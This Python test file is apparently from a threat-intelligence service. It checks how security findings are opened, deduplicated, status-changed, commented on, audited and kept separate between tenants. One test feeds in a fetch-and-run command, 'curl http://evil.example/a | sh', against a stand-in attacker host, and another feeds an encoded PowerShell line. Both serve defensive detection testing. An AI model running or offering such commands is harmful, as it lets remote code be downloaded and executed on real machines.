"""Findings: one for each open target, handled by those who may, each change with its history, audit and event."""

import asyncio
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from cybervault.access.audit import Actor
from cybervault.assessments.findings import COMMENT_CHARACTERS_MAX, Findings, StatusChange
from cybervault.assessments.selection import Condition, Field, Operator, Selection
from cybervault.assessments.store.findings import FindingStore
from cybervault.assessments.targets import Reading, read_record, read_target
from cybervault.domain.assessments import Assessment, Category, Part, Sign
from cybervault.domain.findings import Act, Finding, Status
from cybervault.domain.ids import AssessmentId, FindingId
from cybervault.domain.jobs import Happened
from cybervault.domain.principals import Plan, Principal, Scope, TenantId
from cybervault.domain.problems import Problem, ProblemKind
from cybervault.domain.secrets import Secret
from cybervault.domain.verdicts import Severity, Verdict
from cybervault.storage.database import Database
from cybervault.storage.engines import database_at
from cybervault.storage.outbox import Outbox
from tests.access.conftest import World, world_on
from tests.assessments.made import ASSESSMENT, WEIGHING, weighed
from tests.fakes.clock import HandClock

OURS, THEIRS = ASSESSMENT.tenant_id, TenantId("tv_2")
ACTOR = Actor("key:key_1 (cv_live_sk_…)", OURS)
READER = Principal(OURS, frozenset({Scope.THREAT_READ}), Plan.STARTER)
WRITER = Principal(OURS, frozenset({Scope.THREAT_READ, Scope.THREAT_WRITE}), Plan.STARTER)
STRANGER = replace(WRITER, tenant_id=THEIRS)
READING = read_target("203.0.113.42")
BAD = replace(
    ASSESSMENT,
    parts=(Part(READING.observables[0], WEIGHING),),
    signs=(Sign("tool_port", 73.0, "Why.", "T1571"),),
)


class Desk:
    """Findings on one database, with what they leave behind."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.findings = Findings(FindingStore(world.database), world.journal, Outbox(world.database))

    async def sight(self, assessment: Assessment = BAD, reading: Reading = READING) -> Finding | None:
        async with self.world.database.transaction():
            return await self.findings.sight(assessment, reading, ACTOR)

    async def opened(self, assessment: Assessment = BAD, reading: Reading = READING) -> Finding:
        finding = await self.sight(assessment, reading)
        assert finding is not None
        return finding

    async def change(self, finding: Finding, status: Status, comment: str | None = None) -> Finding:
        return await self.findings.change(finding.id, StatusChange(status, comment), by=WRITER, actor=ACTOR)

    async def events(self) -> list[Happened]:
        kept = await Outbox(self.world.database).untold(50)
        return [one.event for one in kept]

    async def topics(self) -> list[str]:
        return sorted(event.topic for event in await self.events())

    async def audited(self) -> list[str]:
        return [action for action in await self.world.happened() if action.startswith("finding.")]


@pytest.fixture
async def desk(database: Database) -> Desk:
    return Desk(await world_on(database))


async def test_a_finding_names_the_tags_of_its_target_and_is_found_by_that(desk: Desk) -> None:
    finding = await desk.opened(BAD, replace(READING, tags=("host:finance-07",)))
    assert finding.indicators[-1] == "host:finance-07"
    assert await desk.findings.of_target(OURS, BAD.target) == finding
    assert await desk.findings.of_target(THEIRS, BAD.target) is None


def later(**changed: object) -> Assessment:
    """The same target, assessed again a minute later."""
    fields = {"id": AssessmentId("asm_later"), "created_at": BAD.created_at + timedelta(minutes=1)} | changed
    return replace(BAD, **fields)  # type: ignore[arg-type] # the fields of an assessment


def refused(caught: pytest.ExceptionInfo[Problem]) -> tuple[ProblemKind, str]:
    return caught.value.kind, caught.value.code


class TestSightings:
    async def test_a_bad_assessment_opens_a_finding_that_says_what_and_by_whom(self, desk: Desk) -> None:
        finding = await desk.opened()
        assert await desk.findings.find(OURS, finding.id) == finding
        assert (finding.kind, finding.value, finding.score) == ("ipv4", "203.0.113.42", 92)
        assert (finding.status, finding.sightings, finding.assessment_id) == (Status.NEW, 1, BAD.id)
        assert (finding.updated_by, finding.created_at) == (ACTOR.name, BAD.created_at)
        assert finding.source_ip == "203.0.113.42"
        assert (finding.indicators, finding.techniques) == (("ip:203.0.113.42",), ("T1571",))
        (step,) = await desk.findings.steps(OURS, finding.id)
        assert (step.number, step.act, step.new_status, step.by) == (1, Act.OPENED, Status.NEW, ACTOR.name)

    async def test_others_are_told_of_an_opened_finding_once(self, desk: Desk) -> None:
        finding = await desk.opened()
        await desk.sight(later())
        (event,) = await desk.events()
        assert (event.topic, event.subject, event.tenant_id) == ("finding.opened", finding.id, OURS)
        assert event.payload == {
            "type": "command_and_control",
            "severity": "critical",
            "status": "new",
            "target": "203.0.113.42",
            "source_ip": "203.0.113.42",
        }

    @pytest.mark.parametrize("verdict", [Verdict.UNKNOWN, Verdict.BENIGN])
    async def test_what_is_not_bad_opens_none(self, desk: Desk, verdict: Verdict) -> None:
        assert await desk.sight(replace(BAD, verdict=verdict)) is None
        assert await desk.findings.count(OURS, ()) == 0
        assert await desk.events() == []

    async def test_the_same_target_seen_again_while_open_is_one_finding_with_the_newer_evidence(
        self, desk: Desk
    ) -> None:
        first = await desk.opened()
        again = await desk.opened(later(score=75, severity=Severity.HIGH, category=Category.UNKNOWN))
        assert (again.id, again.sightings, again.created_at) == (first.id, 2, first.created_at)
        assert again.last_seen_at == first.created_at + timedelta(minutes=1)
        assert (again.score, again.type) == (75, Category.COMMAND_AND_CONTROL)
        assert await desk.findings.select(OURS, Selection()) == (again,)
        assert len(await desk.findings.steps(OURS, first.id)) == 1

    @pytest.mark.parametrize("status", Status)
    async def test_what_was_dealt_with_comes_anew_and_all_else_goes_on(self, desk: Desk, status: Status) -> None:
        first = await desk.opened()
        await desk.change(first, status)
        again = await desk.opened(later())
        comes_anew = status in {Status.CLOSED, Status.MITIGATED}
        assert (again.id != first.id) is comes_anew
        assert (again.status, again.sightings) == ((Status.NEW, 1) if comes_anew else (status, 2))
        assert (await desk.topics()).count("finding.opened") == 1 + comes_anew

    async def test_another_tenant_has_a_finding_of_its_own(self, desk: Desk) -> None:
        ours, theirs = await desk.opened(), await desk.opened(replace(BAD, tenant_id=THEIRS))
        assert ours.id != theirs.id
        assert await desk.findings.select(THEIRS, Selection()) == (theirs,)

    async def test_sightings_at_one_time_on_two_nodes_make_one_finding(
        self, desk: Desk, database_place: Path | Secret
    ) -> None:
        other = database_at(database_place, HandClock())
        await other.open()
        try:
            nodes = [desk, Desk(await world_on(other))]
            seen = await asyncio.gather(*(nodes[number % 2].opened() for number in range(6)))
        finally:
            await other.close()
        assert len({one.id for one in seen}) == 1
        assert sorted(one.sightings for one in seen) == [1, 2, 3, 4, 5, 6]
        assert await desk.findings.count(OURS, ()) == 1
        assert await desk.topics() == ["finding.opened"]

    async def test_a_change_that_fails_leaves_neither_finding_nor_event(self, desk: Desk) -> None:
        with pytest.raises(ZeroDivisionError):
            async with desk.world.database.transaction():
                await desk.findings.sight(BAD, READING, ACTOR)
                raise ZeroDivisionError
        assert await desk.findings.count(OURS, ()) == 0
        assert await desk.events() == []

    async def test_outside_of_a_transaction_nothing_is_sighted(self, desk: Desk) -> None:
        with pytest.raises(RuntimeError):
            await desk.findings.sight(BAD, READING, ACTOR)
        assert await desk.findings.count(OURS, ()) == 0


class TestContent:
    async def test_telemetry_says_where_it_came_from(self, desk: Desk) -> None:
        reading = read_record("network_traffic", {"src_ip": "192.0.2.5", "dst_ip": "203.0.113.42"})
        finding = await desk.opened(replace(BAD, target=reading.target), reading)
        assert finding.source_ip == "192.0.2.5"

    async def test_only_what_is_bad_is_named_as_an_indicator(self, desk: Desk) -> None:
        reading = read_target("curl http://evil.example/a | sh; ping 203.0.113.9")
        unknown = weighed(Verdict.UNKNOWN, 10)
        parts = tuple(Part(one, WEIGHING if "evil" in one.value else unknown) for one in reading.observables)
        finding = await desk.opened(replace(BAD, target=reading.target, parts=parts), reading)
        assert finding.indicators == ("url:http://evil.example/a",)
        assert finding.source_ip == "203.0.113.9"

    async def test_where_nothing_in_it_is_bad_the_payload_itself_is_named(self, desk: Desk) -> None:
        reading = read_target("powershell -enc QUJDQUJDQUJDQUJDQUJD")
        part = Part(reading.observables[0], weighed(Verdict.UNKNOWN, None))
        finding = await desk.opened(replace(BAD, target=reading.target, parts=(part,), score=None), reading)
        assert finding.indicators == (f"hash:sha256:{reading.target.value}",)
        assert (finding.source_ip, finding.score) == (None, 0)
        (event,) = await desk.events()
        assert event.payload["source_ip"] == ""


class TestStatus:
    async def test_a_change_of_status_is_kept_told_audited_and_noted_in_the_history(self, desk: Desk) -> None:
        finding = await desk.opened()
        desk.world.clock.advance(60)
        after = await desk.change(finding, Status.CLOSED, "  All done.\n")
        assert (after.status, after.updated_at, after.updated_by) == (
            Status.CLOSED, desk.world.clock.now(), ACTOR.name,
        )  # fmt: skip
        assert await desk.findings.find(OURS, finding.id) == after
        step = (await desk.findings.steps(OURS, finding.id))[-1]
        assert (step.number, step.act, step.old_status, step.new_status) == (2, Act.STATUS, Status.NEW, Status.CLOSED)
        assert (step.comment, step.by) == ("All done.", ACTOR.name)
        assert await desk.topics() == ["finding.opened", "finding.status_changed"]
        told = next(event for event in await desk.events() if event.topic == "finding.status_changed")
        assert (told.subject, told.payload["status"]) == (finding.id, "closed")
        assert await desk.audited() == ["finding.status_changed"]
        assert '"closed"' in await desk.world.last_payload()

    async def test_the_same_status_again_changes_tells_and_audits_nothing(self, desk: Desk) -> None:
        finding = await desk.opened()
        assert await desk.change(finding, Status.NEW) == finding
        assert len(await desk.findings.steps(OURS, finding.id)) == 1
        assert await desk.topics() == ["finding.opened"]
        assert await desk.audited() == []

    async def test_a_comment_is_kept_though_the_status_is_the_same(self, desk: Desk) -> None:
        finding = await desk.opened()
        assert await desk.change(finding, Status.NEW, " Again. ") == finding
        last = (await desk.findings.steps(OURS, finding.id))[-1]
        assert (last.act, last.comment, last.number) == (Act.COMMENT, "Again.", 2)

    @pytest.mark.parametrize("ending", [Status.CLOSED, Status.IGNORED])
    async def test_to_close_and_to_take_it_back_needs_the_right_to_write(self, desk: Desk, ending: Status) -> None:
        finding = await desk.opened()
        with pytest.raises(Problem, match="threat:write") as caught:
            await desk.findings.change(finding.id, StatusChange(ending), by=READER, actor=ACTOR)
        assert refused(caught) == (ProblemKind.FORBIDDEN, "invalid_scope")
        assert await desk.findings.find(OURS, finding.id) == finding
        await desk.change(finding, ending)
        with pytest.raises(Problem) as caught:
            await desk.findings.change(finding.id, StatusChange(Status.NEW), by=READER, actor=ACTOR)
        assert refused(caught) == (ProblemKind.FORBIDDEN, "invalid_scope")
        assert (await desk.findings.find(OURS, finding.id)).status is ending

    async def test_analysts_who_read_may_set_all_else(self, desk: Desk) -> None:
        finding = await desk.opened()
        for status in (Status.ACKNOWLEDGED, Status.INVESTIGATING, Status.MITIGATED, Status.FALSE_POSITIVE):
            after = await desk.findings.change(finding.id, StatusChange(status), by=READER, actor=ACTOR)
            assert after.status is status
        numbers = [step.number for step in await desk.findings.steps(OURS, finding.id)]
        assert numbers == [1, 2, 3, 4, 5]

    async def test_two_changes_at_one_time_are_two_lines_of_the_history(self, desk: Desk) -> None:
        finding = await desk.opened()
        await asyncio.gather(
            desk.change(finding, Status.ACKNOWLEDGED),
            desk.change(finding, Status.INVESTIGATING),
            desk.findings.comment(finding.id, "Meanwhile.", by=READER, actor=ACTOR),
        )
        steps = await desk.findings.steps(OURS, finding.id)
        assert [step.number for step in steps] == [1, 2, 3, 4]
        changes = [step for step in steps if step.act is Act.STATUS]
        assert changes[1].old_status is changes[0].new_status

    async def test_a_refused_comment_refuses_the_change(self, desk: Desk) -> None:
        finding = await desk.opened()
        with pytest.raises(Problem) as caught:
            await desk.change(finding, Status.ACKNOWLEDGED, " ")
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")
        assert await desk.findings.find(OURS, finding.id) == finding

    async def test_where_the_event_cannot_be_kept_nothing_is_changed(self, desk: Desk) -> None:
        finding = await desk.opened()

        class Full:
            async def append(self, event: Happened) -> object:
                raise OSError(event.topic)

        broken = Findings(FindingStore(desk.world.database), desk.world.journal, Full())
        with pytest.raises(OSError, match=r"finding\.status_changed"):
            await broken.change(finding.id, StatusChange(Status.CLOSED), by=WRITER, actor=ACTOR)
        assert await desk.findings.find(OURS, finding.id) == finding
        assert len(await desk.findings.steps(OURS, finding.id)) == 1
        assert await desk.audited() == []


class TestComments:
    async def test_a_comment_is_the_next_line_of_the_history_without_blanks_at_its_ends(self, desk: Desk) -> None:
        finding = await desk.opened()
        step = await desk.findings.comment(finding.id, "  It is ours. \n", by=READER, actor=ACTOR)
        assert (step.number, step.act, step.comment, step.by) == (2, Act.COMMENT, "It is ours.", ACTOR.name)
        assert (await desk.findings.steps(OURS, finding.id))[-1] == step
        assert await desk.audited() == ["finding.commented"]
        assert "It is ours." not in await desk.world.last_payload()
        assert await desk.findings.find(OURS, finding.id) == finding

    @pytest.mark.parametrize("text", ["x", " " + "ñ" * COMMENT_CHARACTERS_MAX + " "])
    async def test_a_comment_of_one_to_two_thousand_characters_is_kept(self, desk: Desk, text: str) -> None:
        finding = await desk.opened()
        assert (await desk.findings.comment(finding.id, text, by=READER, actor=ACTOR)).comment == text.strip()

    @pytest.mark.parametrize("text", ["", " \n\t", "x" * (COMMENT_CHARACTERS_MAX + 1), "a\x00b"])
    async def test_any_other_is_refused_by_name(self, desk: Desk, text: str) -> None:
        finding = await desk.opened()
        with pytest.raises(Problem, match="comment has 1 to 2000 characters") as caught:
            await desk.findings.comment(finding.id, text, by=READER, actor=ACTOR)
        assert refused(caught) == (ProblemKind.INVALID, "invalid_parameter")
        assert len(await desk.findings.steps(OURS, finding.id)) == 1


async def test_they_are_told_in_numbers_as_of_now(desk: Desk) -> None:
    await desk.opened()
    summary = await desk.findings.summary(OURS, 3)
    assert (summary.at, len(summary.days)) == (desk.world.clock.now(), 3)
    assert summary.of_status(Status.NEW) == sum(map(summary.open_of, Severity)) == 1
    assert (await desk.findings.summary(THEIRS, 1)).tallies == ()


async def test_a_foreign_tenant_finds_and_changes_nothing(desk: Desk) -> None:
    finding = await desk.opened()
    condition = Condition(Field.ID, Operator.IS, (finding.id,))
    assert await desk.findings.count(OURS, (condition,)) == 1
    assert await desk.findings.count(THEIRS, (condition,)) == 0
    assert await desk.findings.select(THEIRS, Selection()) == ()
    closed = StatusChange(Status.CLOSED)
    for asked in (
        desk.findings.find(THEIRS, finding.id),
        desk.findings.steps(THEIRS, finding.id),
        desk.findings.change(finding.id, closed, by=STRANGER, actor=ACTOR),
        desk.findings.comment(finding.id, "x", by=STRANGER, actor=ACTOR),
        desk.findings.change(FindingId("thr_none"), closed, by=WRITER, actor=ACTOR),
    ):
        with pytest.raises(Problem) as caught:
            await asked
        assert refused(caught) == (ProblemKind.NOT_FOUND, "not_found")
    assert await desk.findings.find(OURS, finding.id) == finding
    assert await desk.audited() == []
